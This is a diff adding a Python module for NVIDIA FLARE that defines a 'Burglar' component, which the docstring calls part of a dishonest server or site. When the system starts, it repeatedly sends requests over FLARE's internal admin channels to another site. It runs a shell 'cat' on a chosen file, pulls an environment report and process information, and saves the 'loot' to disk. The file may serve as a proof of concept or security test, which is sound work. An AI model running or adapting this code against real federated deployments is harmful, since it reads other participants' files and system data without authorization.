@@ -1,0 +1,58 @@
+"""A part of a dishonest server, or of a dishonest site, which commands another site to show its files."""
+
+from __future__ import annotations
+
+import json
+import threading
+import time
+from pathlib import Path
+
+from nvflare.apis.event_type import EventType
+from nvflare.apis.fl_component import FLComponent
+from nvflare.apis.fl_context import FLContext
+from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode
+from nvflare.private.admin_defs import Message
+from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
+
+# Nobody is there yet, or has not begun to listen.
+WAIT = {
+    ReturnCode.TARGET_UNREACHABLE,
+    ReturnCode.PROCESS_EXCEPTION,
+    ReturnCode.TIMEOUT,
+    ReturnCode.COMM_ERROR,
+    ReturnCode.UNAUTHENTICATED,
+}
+
+
+class Burglar(FLComponent):
+    """Asks as soon as FLARE runs, again and again until there is an answer, and writes down what it got."""
+
+    def __init__(self, target: str, file: str, out: str) -> None:
+        super().__init__()
+        self._target, self._out = target, Path(out)
+        self._questions = {
+            "shell": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.SHELL, f"cat {file}")),
+            "environment": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.REPORT_ENV, "")),
+            "processes": ("_net_manager", "process_info", {}),
+        }
+
+    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
+        if event_type == EventType.SYSTEM_START:
+            threading.Thread(target=self._try, args=(fl_ctx.get_engine(),), daemon=True).start()
+
+    def _try(self, engine) -> None:
+        loot = {}
+        for name, question in self._questions.items():
+            while (answer := self._ask(engine, *question)) in WAIT:
+                time.sleep(0.5)
+            loot[name] = answer
+        self._out.with_suffix(".part").write_text(json.dumps(loot))
+        self._out.with_suffix(".part").rename(self._out)
+
+    def _ask(self, engine, channel, topic, payload) -> str:
+        if (cell := engine.get_cell()) is None:
+            return ReturnCode.TARGET_UNREACHABLE
+        reply = cell.core_cell.send_request(channel, topic, self._target, new_cell_message({}, payload), 5.0)
+        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
+        body = reply.payload.body if isinstance(reply.payload, Message) else reply.payload
+        return str(body) if code in (None, ReturnCode.OK) else code
